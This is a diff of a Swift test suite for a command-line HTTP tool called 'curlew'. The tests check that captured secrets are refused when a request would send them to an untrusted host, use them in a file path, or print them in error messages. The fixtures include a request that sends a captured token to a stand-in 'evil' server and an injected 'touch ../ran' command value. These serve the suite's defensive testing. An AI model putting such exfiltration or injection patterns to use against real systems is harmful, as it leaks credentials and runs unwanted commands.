@@ -177,8 +177,53 @@ import Testing
         #expect(run.end == .exit(2) && evil.take().isEmpty, "\(run.text)\(run.errors)")
     }
 
-    /// Who writes the collection calls what he likes a secret: what a yes is about is shown all the same.
-    @Test func `a captured secret hides nothing of a question, nor of a refusal`() async throws {
+    @Test func `what an answer gives is a secret where a known one stands in it`() async throws {
+        let first = try LoopbackServer { _ in
+            let body = #"{"t": "Bearer \#(GuardedFolder.canary)"}"#
+            return [
+                .readHead,
+                .send("HTTP/1.1 200 OK\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"),
+                .shutdown,
+            ]
+        }
+        try folder.lay([
+            "environments/e.yaml": "secrets: {token: {process: SECRET_KEY}}\n",
+            "login.yaml": "request: GET \(first.url)/\nheaders: {X-T: \"{{token}}\"}\ncapture: {v: $.t}\n",
+            "use.yaml": "request: GET \(evilBase)/x?v={{v}}\n",
+        ])
+        for command in ["send", "run"] {
+            #expect(try await folder.curlew(command, "login", "--allow", "all").end == .exit(0))
+            let refused = try await folder.curlew("send", "use")
+            #expect(refused.errors.contains("sends the secret v of e."), "\(refused.errors)")
+        }
+    }
+
+    @Test func `a captured secret in a path is named by its refusal, and allowed by its name`() async throws {
+        let body = #"{"t": "CAPTURED-9876"}"#
+        let first = try LoopbackServer(
+            .readHead,
+            .send("HTTP/1.1 200 OK\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)"),
+            .shutdown)
+        try folder.lay([
+            "login.yaml": "request: GET \(first.url)/\ncapture: {tok: !secret $.t}\n",
+            "use.yaml": "request: GET \(first.url)/x\noptions: {client-certificate: \"/tmp/{{tok}}.pem\"}\n",
+        ])
+        #expect(try await folder.curlew("send", "login").end == .exit(0))
+        for command in ["send", "run"] {
+            let refused = try await folder.curlew(command, "use")
+            let said = refused.text + refused.errors
+            #expect(refused.end != .exit(0) && !said.contains("9876"), "\(said)")
+            #expect(said.contains("reads the file /tmp/{{tok}}.pem."), "\(said)")
+            let named = "/tmp/{{tok}}.pem@\(first.url)"
+            #expect(said.contains("--allow '\(named)'"), "\(said)")
+            let allowed = try await folder.curlew(command, "use", "--allow", named)
+            #expect(!(allowed.text + allowed.errors).contains("--allow"), "\(allowed.text)\(allowed.errors)")
+        }
+    }
+
+    /// Who writes the collection calls what he likes a secret: a question shows what its yes is about all the same. The
+    /// sentence of a refusal, which logs keep, has the secret's name, and a program's own words.
+    @Test func `a captured secret hides nothing of a question, and is in no refusal`() async throws {
         let first = try LoopbackServer { [port = evil.port] _ in
             let body = "{\"v\": \"touch ../ran\", \"h\": \"127.0.0.1:\(port)\"}"
             return [
@@ -195,7 +240,9 @@ import Testing
         ])
         #expect(try await folder.curlew("send", "login").end == .exit(0))
         let refused = try await folder.curlew("send", "use")
-        #expect(refused.end == .exit(2) && !refused.errors.contains("******"), "\(refused.errors)")
+        #expect(refused.end == .exit(2) && !refused.errors.contains("127.0.0.1"), "\(refused.errors)")
+        #expect(refused.errors.contains("would go to http://{{h}}. A secret is part of the place"))
+        #expect(refused.errors.contains("--allow 'SECRET_KEY@PLACE'"), "\(refused.errors)")
         let terminal = try PseudoTerminal(
             running: BuiltProgram.path, ["send", "use"], environment: folder.environment,
             folder: folder.home.path("api"), size: Size(width: 200, height: 40))
